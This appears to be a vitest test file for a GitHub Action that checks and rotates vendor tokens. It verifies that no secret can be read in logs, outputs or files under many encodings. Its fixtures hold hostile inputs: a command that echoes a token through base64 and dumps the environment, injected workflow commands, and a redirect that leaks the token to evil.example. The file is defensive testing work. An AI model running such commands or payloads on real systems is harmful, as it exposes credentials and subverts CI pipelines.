import { readdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { ActionResult } from '../../src/runner/run-action.js'
import { ciRoleId } from '../../src/sandbox/faces/qwiet/state.js'
import { type SandboxDescription, startSandbox } from '../../src/sandbox/start.js'
import { type Job, type JobOptions, startJob } from '../action/job.js'
import { isDeep } from '../deep.js'
import { type Answer, type Loopback, serve } from '../http/loopback.js'
import { encodings } from './encodings.js'
import { needlesOf, readableIn } from './needles.js'
import { tokens } from './tokens.js'

let job: Job
const servers: Loopback[] = []
beforeAll(async () => {
  job = await startJob()
  writeFileSync(join(job.workspace, 'junit.xml'), report(''))
  writeFileSync(join(job.workspace, 'qwiet.json'), JSON.stringify({ roleId: ciRoleId }))
  writeFileSync(join(job.workspace, 'partial.xml'), report(" @qa-hub('NO-1')"))
})
afterAll(async () => {
  for (const server of servers) await server.close()
  await job.close()
})

const report = (tag: string) =>
  `<testsuite tests="2"><testcase name="pays"/><testcase name="refunds${tag}"/></testsuite>`

type Inputs = Readonly<Record<string, string>>
interface Flow {
  readonly inputs: Inputs
  readonly options?: JobOptions
}

/** Everything of a run that somebody could read, by where it was found. */
function readable(result: ActionResult): ReadonlyMap<string, string> {
  return new Map([
    ['the log', result.log],
    ['the summary', result.summary],
    ['the outputs', JSON.stringify(result.outputs)],
    ['outputs and state of the steps', JSON.stringify(result.steps)],
    ['annotations', JSON.stringify(result.annotations)],
    ['arguments of processes', result.argv.join('\n')],
    ...[...result.files].map(([name, bytes]) => [name, bytes.toString('latin1')] as const),
  ])
}

/** Runs the real action, and shows that none of these tokens can be read anywhere. */
async function shown({ inputs, options }: Flow, secrets: readonly string[]): Promise<ActionResult> {
  const result = await job.uses(inputs, { debug: true, watch: true, ...options })
  for (const token of secrets) unreadable(result, token)
  return result
}

/** Shows that a token can be read nowhere, in no encoding of the list. */
function unreadable(result: ActionResult, token: string): void {
  const needles = needlesOf(token)
  for (const [place, text] of readable(result)) {
    expect({ place, readable: readableIn(text, needles) }).toEqual({ place, readable: [] })
  }
}

type VendorId = keyof SandboxDescription['vendors']
const rotating = (at: SandboxDescription): Inputs => ({
  rotate: 'always',
  'github-token': at.github.token,
  secret: 'THE_TOKEN',
})
const nobody = 'http://127.0.0.1:9'

/** A flow with a seeded token of a vendor. */
const uses =
  (vendor: VendorId, more: (at: SandboxDescription) => Inputs = () => ({})) =>
  (at: SandboxDescription): Flow => {
    const { url, token } = at.vendors[vendor]
    return { inputs: { vendor, url, token, ...more(at) } }
  }

const flows: Readonly<Record<string, (at: SandboxDescription) => Flow>> = {
  'a token that was revoked': uses('qahub', ({ vendors }) => ({ token: vendors.qahub.revokedToken })),
  'a token in quotes': uses('qahub', ({ vendors }) => ({ token: `"${vendors.qahub.token}"\n` })),
  'an upload': uses('qahub', ({ vendors }) => ({ project: vendors.qahub.project, upload: 'junit.xml' })),
  'a partial upload': uses('qahub', ({ vendors }) => ({
    project: vendors.qahub.project,
    upload: 'partial.xml',
  })),
  'an upload that fails': uses('qahub', () => ({ project: 'nowhere', upload: 'junit.xml' })),
  'a vendor that nobody reaches, and going on': uses('qahub', () => ({
    url: nobody,
    'on-unknown': 'warn',
    command: 'set -x; echo "$QA_HUB_TOKEN" | base64; env >&2',
  })),
  'an expired token': uses('qanode', ({ vendors }) => ({ token: vendors.qanode.expiredToken })),
  'a failed suite and a rotation by hand': uses('qanode', (at) => ({
    ...rotating(at),
    trigger: `suite:${at.vendors.qanode.failingSuite}`,
  })),
  'a scan with a warning and a rotation': uses('qualytics', (at) => ({
    ...rotating(at),
    trigger: `scan:datastore=${at.vendors.qualytics.warningDatastore}`,
  })),
  'a rotation that GitHub refuses': uses('qualytics', (at) => ({
    ...rotating(at),
    'github-token': at.github.jobToken,
  })),
  'a failed gate and a rotation by a second credential': uses('qwiet', (at) => ({
    ...rotating(at),
    'admin-token': at.vendors.qwiet.adminToken,
    'vendor-config': 'qwiet.json',
    trigger: `gate:app=${at.vendors.qwiet.failingApp}`,
  })),
  'a rotation in place': uses('gitlab', (at) => ({
    ...rotating(at),
    token: at.vendors.gitlab.selfRotateToken,
    'allow-in-place': 'true',
  })),
  'a fork': (at) => ({
    inputs: { vendor: 'qahub', url: nobody, token: '', 'github-token': at.github.token },
    options: {
      github: { event_name: 'pull_request' },
      event: { pull_request: { head: { repo: { full_name: 'eve/shop' } }, base: {} } },
    },
  }),
}

const rotated = new Set([
  'a scan with a warning and a rotation',
  'a failed gate and a rotation by a second credential',
  'a rotation in place',
])

describe.concurrent('no token can be read after', () => {
  test.each(Object.keys(flows))('%s', async (name) => {
    const sandbox = await startSandbox({ seed: name })
    try {
      const at = sandbox.describe()
      const { inputs, options = {} } = flows[name]?.(at) ?? { inputs: {} }
      sandbox.clock.advance(5_000)
      const { id } = sandbox.github.startRun(at.github.repository, 'in_progress')
      const github = { ...options.github, api_url: at.github.apiUrl, run_id: String(id) }
      const secrets = Object.values(inputs).filter((value) => value !== '' && known(at).has(value))
      const result = await shown({ inputs, options: { ...options, github } }, secrets)
      const fresh = await sandbox.github.reveal('repo:acme/shop', 'THE_TOKEN')
      expect(fresh !== undefined).toBe(rotated.has(name))
      if (fresh !== undefined) unreadable(result, fresh)
    } finally {
      await sandbox.close()
    }
  })
})

/** Every token of a sandbox. */
function known({ vendors, github }: SandboxDescription): ReadonlySet<string> {
  return new Set(
    [...Object.values(vendors), github].flatMap((seeds) =>
      Object.entries(seeds).flatMap(([key, value]) => (/token$/i.test(key) ? [String(value)] : [])),
    ),
  )
}

describe('a command that prints the token in every encoding of the list', () => {
  const long = 1_000
  // GitHub's token is refused at the door of every vendor.
  const guarded = Object.entries(tokens).filter(([, token]) => !token.startsWith('ghs_'))
  const whole = guarded.filter(([, token]) => token.length <= long && isOneWord(token))
  test.each(whole.filter((_, index) => isDeep || index % 6 === 0))('%s', async (name, token) => {
    const file = `${name.replace(/\W+/g, '-')}.txt`
    const said = encodings
      .filter(({ limits }) => token.length <= (limits?.filter ?? long))
      .map(({ name, encode }) => `${name}\n${encode(token)}\n\n`)
    writeFileSync(join(job.workspace, file), said.join(''), 'utf8')
    const inputs = {
      vendor: vendorOf(token),
      url: nobody,
      token,
      command: `cat '${file}'; cat '${file}' >&2`,
    }
    const result = await shown({ inputs, options: { step: 'run', warm: true } }, [token])
    expect(result.conclusion).toBe('success')
  })
})

function vendorOf(token: string): VendorId {
  const known = [
    ['qh_', 'qahub'],
    ['glpat-', 'gitlab'],
    ['eyJ', 'qualytics'],
  ] as const
  return known.find(([prefix]) => token.startsWith(prefix))?.[1] ?? 'qanode'
}

const isOneWord = (token: string) => /^[\x21-\x7e]+$/.test(token) && !/^["'`]|["'`]$/.test(token)

/** Ways in which a vendor can send a token back. */
const attacks: Readonly<Record<string, (token: string) => Answer>> = {
  'in the text of an error': (token) => ({ status: 400, body: { message: `bad token ${token}` } }),
  'in workflow commands': (token) => ({
    status: 422,
    body: {
      message: `\n::stop-commands::x\n::set-output name=verdict::${token}\n::add-mask::a\n${token}\n::x::`,
    },
  }),
  'in headers': (token) => ({
    status: 503,
    body: token,
    headers: { 'www-authenticate': `Bearer error="${token}"`, 'content-type': `text/${token.slice(0, 60)}` },
  }),
  'in the address of a redirect': (token) => ({
    status: 302,
    headers: { location: `https://evil.example/${token}?t=${token}` },
  }),
  'in what it says the token can do': (token) => ({
    body: {
      id: token,
      runId: token,
      status: token,
      errorSummary: token,
      tenant: { id: token, name: token, status: token },
      scopes: [token, Buffer.from(token).toString('base64'), Buffer.from(token).toString('hex')],
    },
  }),
}

describe('a vendor that sends the token back', () => {
  const token = `qh_a1b2c3_${tokens.QANode?.slice(4)}`
  test.each(Object.keys(attacks))('%s', async (name) => {
    const server = await serve(() => attacks[name]?.(token) ?? {})
    servers.push(server)
    const inputs = {
      vendor: 'qahub',
      url: server.url.href,
      token,
      scopes: 'write',
      'on-unknown': 'warn',
      project: 'p1',
      upload: 'junit.xml',
    }
    const result = await shown({ inputs, options: { warm: true } }, [token])
    expect(result.outputs.verdict).not.toBe(token)
    await shown({ inputs, options: { step: 'run', warm: true } }, [token])
    const suite = { vendor: 'qanode', url: server.url.href, token, trigger: 'suite:1', timeout: '1s' }
    await shown({ inputs: suite, options: { step: 'run', warm: true } }, [token])
  })
})

test('the search finds a token where it is: the commands that mask it hold at least forty encodings', async () => {
  const { url, token } = job.description.vendors.qualytics
  const { rawLog } = await job.uses({ vendor: 'qualytics', url, token })
  expect(readableIn(rawLog, needlesOf(token)).length).toBeGreaterThanOrEqual(40)
})

test('nothing is left in the workspace', () => {
  const left = readdirSync(job.workspace, { recursive: true }).map(String)
  expect(left.filter((name) => !/\.(xml|txt)$|^qwiet\.json$/.test(name))).toEqual([])
})
